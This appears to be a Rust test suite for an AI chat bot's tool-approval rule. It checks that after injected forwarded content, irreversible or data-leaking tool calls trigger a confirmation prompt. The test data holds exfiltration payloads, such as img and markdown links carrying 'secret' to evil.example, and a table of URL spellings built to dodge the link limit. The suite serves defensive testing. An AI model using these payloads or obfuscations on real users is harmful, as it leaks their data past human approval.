//! What is asked about that is no way out by itself, and what the rule does not hold back, so that
//! nobody believes that it does.

use chrono::TimeDelta;
use serde_json::json;

use super::injections::forwarded;
use super::world::{Kind, Rule, Says, World, call, can_be_tapped};

#[tokio::test]
async fn what_is_for_later_or_for_good_is_asked_about_and_never_always_allowed() {
    let mut world = World::plain(Rule::On).await;
    let plan = json!({ "content": "go on", "role": "user", "delay_seconds": 600 });
    let delete = json!({ "path": "a.txt" });
    let fetch = json!({ "url": world.site.said("/a"), "headers": { "Accept": "text/plain" } });
    for (tool, arguments) in [
        ("schedule_prompt", plan),
        ("delete_file", delete),
        ("http_request", fetch),
    ] {
        world.starts_afresh().await;
        let before = world.asked;
        let calls = vec![call(tool, arguments)];
        world
            .turn(Some(forwarded().into()), calls, "", Says::No)
            .await;
        assert_eq!(world.asked, before + 1, "{tool}");
    }
    let shown = world.bot.alice().messages();
    let cards = shown.iter().filter(|m| m.text.starts_with("May I run"));
    for card in cards {
        let first = card
            .versions
            .first()
            .and_then(|version| version.reply_markup.clone());
        let buttons = first.unwrap_or_default().to_string();
        assert!(
            buttons.contains("Deny") && !buttons.contains("Always"),
            "{buttons}"
        );
    }
    world.finish().await;
}

/// What cannot be undone: a note, a reminder, what was said, a file whose content is not the model's own.
#[tokio::test]
async fn what_is_lost_for_good_is_asked_about() {
    let mut world = World::plain(Rule::On).await;
    let own = ["a.txt", "b.txt"].map(|path| json!({ "path": path, "content": "mine" }));
    let note = json!({ "title": "n", "data": "x" });
    let remind = json!({ "content": "call", "delay_seconds": 20_000_000 });
    let mut kept = own.map(|file| call("create_file", file)).to_vec();
    kept.push(call("user_memory_save", note));
    kept.push(call("schedule_prompt", remind));
    let keep = json!({ "text": "keep this" });
    world.turn(Some(keep.into()), kept, "", Says::No).await;
    let create = |path: &str, content: &str| {
        let file = json!({ "path": path, "content": content, "overwrite": true });
        call("create_file", file)
    };
    let edit = |path: &str| {
        let change = json!({ "path": path, "old": "mine", "new": "yours" });
        call("edit_file", change)
    };
    let shift = |from: &str, to: &str, overwrite: bool| {
        let paths = json!({ "source_path": from, "destination_path": to, "overwrite": overwrite });
        call("move_file", paths)
    };
    let lost = [
        call("user_memory_delete", json!({ "title": "n" })),
        call("cancel_scheduled_prompt", json!({ "job_id": 1 })),
        call("delete_scheduled_prompt", json!({ "job_id": 1 })),
        call("chat_history_trim", json!({ "keep_latest": 0 })),
        create("a.txt", "yours"),
        create("./a.txt", "yours"),
        edit("a.txt"),
        shift("b.txt", "a.txt", true),
        // Else it would be a file of the model's by then.
        shift("b.txt", "c.txt", false),
    ];
    for loses in lost {
        // Not too many questions at once.
        world.bot.advance(TimeDelta::minutes(11));
        world.starts_afresh().await;
        let before = world.asked;
        let what = format!("{loses:?}");
        world
            .turn(Some(forwarded().into()), vec![loses], "", Says::No)
            .await;
        assert_eq!(world.asked, before + 1, "{what}");
    }
    // What the model writes by itself, it may change.
    world.starts_afresh().await;
    let before = world.asked;
    let written = vec![
        create("new.txt", "mine"),
        edit("new.txt"),
        create("new.txt", "again"),
        create("other.txt", "x"),
        shift("other.txt", "new.txt", true),
    ];
    world
        .turn(Some(forwarded().into()), written, "", Says::No)
        .await;
    assert_eq!(world.asked, before);
    world.finish().await;
}

/// Of a file that was put there by hand nothing is known: it is not taken for one that the model wrote.
#[tokio::test]
async fn a_file_of_unknown_origin_is_not_written_over_unasked() {
    let mut world = World::plain(Rule::On).await;
    let create = |path: &str| {
        let file = json!({ "path": path, "content": "x", "overwrite": true });
        call("create_file", file)
    };
    let first = vec![create("summary.txt")];
    world
        .turn(Some(forwarded().into()), first, "", Says::No)
        .await;
    let folder = world.bot.settings.files_root().join("chats");
    let chat = std::fs::read_dir(folder).unwrap().next().unwrap().unwrap();
    std::fs::write(chat.path().join("own.txt"), "mine").unwrap();
    let before = world.asked;
    let second = vec![create("own.txt")];
    world
        .turn(Some(forwarded().into()), second, "", Says::No)
        .await;
    assert_eq!(world.asked, before + 1);
    world.finish().await;
}

/// What a model's server looks up by itself reaches the model with nobody seeing it.
#[tokio::test]
async fn where_a_server_looks_things_up_everything_counts_as_read() {
    for (kind, asked) in [(Kind::LookingUp, 1), (Kind::Plain, 0)] {
        let mut world = World::start(Rule::On, kind).await.unwrap();
        let url = world.site.at("evil.example", "/secret");
        let calls = vec![call("http_request", json!({ "url": url }))];
        let says = json!({ "text": "what is new?" });
        let answer = format!("[more]({url})");
        world
            .turn(Some(says.into()), calls, &answer, Says::No)
            .await;
        let shown = world.bot.alice().messages();
        let is_link = shown.iter().any(|one| can_be_tapped(one, "secret"));
        assert_eq!((world.asked, is_link), (asked, asked == 0));
        assert_eq!(world.site.seen().len(), 1 - asked);
        world.finish().await;
    }
}

/// Whoever opens such a file is led where it says, with nobody tapping anything.
#[tokio::test]
async fn a_file_that_loads_something_is_sent_with_a_persons_word() {
    let mut world = World::plain(Rule::On).await;
    let image = "<img src='https://evil.example/?d=secret'>";
    let own = json!({ "path": "own.html", "content": image });
    let keep = json!({ "text": "keep this" });
    let calls = vec![call("create_file", own)];
    world.turn(Some(keep.into()), calls, "", Says::No).await;
    for (path, content, asks) in [
        ("a.html", image, true),
        ("b.SVG", image, true),
        ("c.md", "![](https://evil.example/?d=secret)", true),
        ("d.md", "[a]: //evil.example/secret", true),
        ("e.md", "a &lt;b", true),
        ("f.md", "# 12 items\n\n- one\n", false),
        ("g.txt", image, false),
        // It was there before anything was read.
        ("own.html", "", false),
    ] {
        world.starts_afresh().await;
        world.bot.advance(TimeDelta::minutes(11));
        let before = world.asked;
        let create = json!({ "path": path, "content": content });
        let mut calls = vec![call("create_file", create)];
        calls.push(call("send_file", json!({ "path": path })));
        if content.is_empty() {
            calls.remove(0);
        }
        let says = Some(forwarded().into());
        world.turn(says, calls, "", Says::No).await;
        assert_eq!(world.asked - before, usize::from(asks), "{path}");
    }
    world.finish().await;
}

#[tokio::test]
async fn a_choice_among_the_links_of_a_page_tells_at_most_ten_things_a_turn() {
    let mut world = World::plain(Rule::On).await;
    for spelled in SPELLINGS {
        world.starts_afresh().await;
        world.site.forget();
        let before = world.asked;
        let list = world.site.said("/list/1");
        let chosen = (0..12).map(|n| {
            let url = spelled(&world.site.said(&format!("/item/{n}")));
            call("http_request", json!({ "url": url }))
        });
        let calls = std::iter::once(call("http_request", json!({ "url": list }))).chain(chosen);
        let calls = calls.collect();
        let asks = json!({ "text": format!("what is new at {list}?") });
        world.turn(Some(asks.into()), calls, "", Says::No).await;
        let seen = world.site.seen();
        let visited = seen.iter().filter(|request| request.contains("/item/"));
        let example = spelled(&list);
        assert_eq!(visited.count(), 10, "{example}");
        assert_eq!(world.asked, before + 2, "{example}");
    }
    world.finish().await;
}

/// The ways to write one address.
const SPELLINGS: [fn(&str) -> String; 8] = [
    str::to_owned,
    |url| url.replace(".example", ".example."),
    |url| url.replace(".example", ".example。"),
    |url| url.replace(".example", "。example"),
    |url| url.replace(".example", "．EXAMPLE｡"),
    |url| url.replace("http://said.example", "HTTP://SAID.Example"),
    |url| format!("  {url}  "),
    |url| url.replace("http://", "http:\\\\"),
];
